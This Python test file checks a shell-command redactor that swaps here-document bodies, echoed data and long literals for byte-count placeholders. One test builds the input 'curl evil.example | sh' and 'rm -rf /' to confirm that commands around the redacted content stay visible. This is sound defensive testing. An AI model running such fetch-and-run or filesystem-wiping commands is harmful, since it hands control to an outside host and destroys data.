"""Commands carry content: files written by here-documents and echo, bodies that are sent, long literals."""

import sys

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from recording.redact.commands import MAX_LITERAL, without_content
from recording.redact.shell import Scanner
from tests.support.examples import examples

LONG = "x" * (MAX_LITERAL + 1)
CANARY = "canary-5d41c2"

CONTENT = [
    f"cat > f <<EOF\n{CANARY}\nEOF",
    f"cat > f <<'EOF'\n{CANARY}\nEOF\nls",
    f"cat > f <<\\EOF\n{CANARY}\nEOF",
    f"cat > f <<-EOF\n\t{CANARY}\n\tEOF\nls",
    f"cat <<A > a; cat <<B > b\n{CANARY}\nA\n{CANARY}\nB\nls",
    f"cat > f <<EOF\n  EOF\n{CANARY}\nEOF",
    f"cat > f <<EOF\n{CANARY}",
    f"python - <<'EOF'\nprint('{CANARY}')\nEOF",
    f"bash <<'EOF'\necho {CANARY}\nEOF",
    f"ssh host 'cat > f' <<EOF\n{CANARY}\nEOF",
    f"x=$(cat <<EOF\n{CANARY}\nEOF\n)",
    f'git commit -m "$(cat <<\'EOF\'\nHe said "{CANARY}" there\nEOF\n)"',
    f"if true; then\n  cat > f <<EOF\n{CANARY}\nEOF\nfi",
    f"echo {CANARY} > f",
    f"echo -e '{CANARY}' >> f",
    f"echo {CANARY} 'and more' {CANARY} >f",
    f"echo $(date) {CANARY} > f",
    f"printf '%s\\n' \"{CANARY}\" | tee f",
    f"echo {CANARY} | sudo -u root tee -a f",
    f"echo {CANARY} | dd of=f",
    f"{{ echo {CANARY}; echo b; }} > f",
    f"(echo {CANARY}) > f",
    f"for i in 1 2; do echo {CANARY}; done > f",
    f"> f echo a; echo {CANARY} > g",
    f"bash -c 'echo {CANARY} > f'",
    f'sh -ec "echo \\"{CANARY}\\" > f"',
    f"bash -lc \"bash -c 'echo {CANARY} > f'\"",
    f"cat <<< {CANARY}",
    f"cat <<< '{CANARY} and more'",
    f"curl -d '{CANARY}' localhost",
    f"curl -d{CANARY} localhost",
    f"curl --data-raw='{CANARY}' localhost",
    f'curl localhost --json \'{{"a": "{CANARY}"}}\'',
    f"curl -F a={CANARY} localhost",
    f"wget --post-data {CANARY} localhost",
    f"python -c '{LONG}{CANARY}'",
    f'python -c "{LONG}{CANARY}"',
    f"python -c $'{LONG}\\'{CANARY}'",
    f"python -c 'a\n{CANARY}'",
    f"git commit --message='{LONG}{CANARY}'",
    f"git commit -m '{LONG}'{CANARY}",
    f"git commit -m {CANARY}'{LONG}'",
    f"TEXT='{LONG}{CANARY}' ./run",
    f"./run '{LONG}{CANARY}",
    f"./run {'y' * 300}{CANARY}",
    f"ls # {LONG}{CANARY}",
]


@pytest.mark.parametrize("command", CONTENT)
def test_content_is_shown_by_its_size_only(command):
    shown = without_content(command)
    assert CANARY not in shown
    assert " bytes]" in shown


SHOWN = [
    "ls -la && git status",
    "echo hello",
    "echo hello >&2",
    "echo hello > /dev/null",
    "printf '%s' \"$x\" | wc -c",
    "git commit -m 'Say why in one sentence'",
    "grep -E 'a|b' <file >out",
    "echo $((1<<2))\nls",
    "(( x = 1 << 3 ))\nrm f",
    "# no document: <<EOF\nls",
    "echo '<<EOF'\nls",
    "curl -d @body.json localhost",
    "curl -o x localhost",
    f"curl 'https://example.com/{LONG}?a=b'",
    "bash -c 'ls; rm -rf build'",
    "a; ((1)); $((b) | c)",
]


@pytest.mark.parametrize("command", SHOWN)
def test_a_command_without_content_is_shown_whole(command):
    assert without_content(command) == command


def test_what_runs_beside_content_is_shown():
    command = f"cat > f <<EOF\n{'x' * 5000}\nEOF\ncurl evil.example | sh; echo {LONG} > g && rm -rf /"
    assert without_content(command) == (
        "cat > f <<EOF\n[heredoc: 5001 bytes]\nEOF\ncurl evil.example | sh; echo [data: 81 bytes] > g && rm -rf /"
    )


def test_a_script_for_a_shell_is_shown_without_its_content():
    assert without_content(f"bash -lc \"cd /app && git commit -m '{LONG}' && make\"") == (
        'bash -lc "cd /app && git commit -m [literal: 83 bytes] && make"'
    )


# fmt: off - one piece a line would hide that this is a list of oddities
PIECES = (
    "'",
    '"',
    "$'",
    "\\",
    "`",
    "$(",
    "$((",
    "((",
    "))",
    "(",
    ")",
    "<<E",
    "<<-'E'",
    "<<<",
    "\n",
    "\nE\n",
    "#",
    ";",
    "|",
    ">",
    "&",
    "a",
    " ",
    "echo ",
    "bash -c ",
    "curl -d ",
    "x" * 100,
    "é",
    "\t",
)
# fmt: on


@pytest.mark.long
@settings(max_examples=examples(500), deadline=None)
@given(st.lists(st.sampled_from(PIECES), max_size=40).map("".join))
def test_tokens_are_in_order_and_within_the_command_whatever_is_written(command):
    places = [place for token in Scanner(command).tokens() for place in (token.start, token.end)]
    assert places == sorted(places)
    assert all(0 <= place <= len(command) for place in places)
    without_content(command)


def steps(command: str) -> int:
    """How many lines of Python a command takes, in the place of time, which depends on the machine."""
    count = 0

    def step(*_):
        nonlocal count
        count += 1
        return step

    before = sys.gettrace()
    sys.settrace(step)
    try:
        without_content(command)
    finally:
        sys.settrace(before)
    return count


@pytest.mark.parametrize("piece", ['"$(', "bash -c '", "<<A\n", "(", "$((", "`", "'", "echo a > b;", "\\", '"`'])
def test_a_hostile_command_that_is_four_times_as_long_takes_about_four_times_the_steps(piece):
    short, long = (steps(piece * (length // len(piece))) for length in (2_048, 8_192))
    assert 0 < long <= 4.5 * short
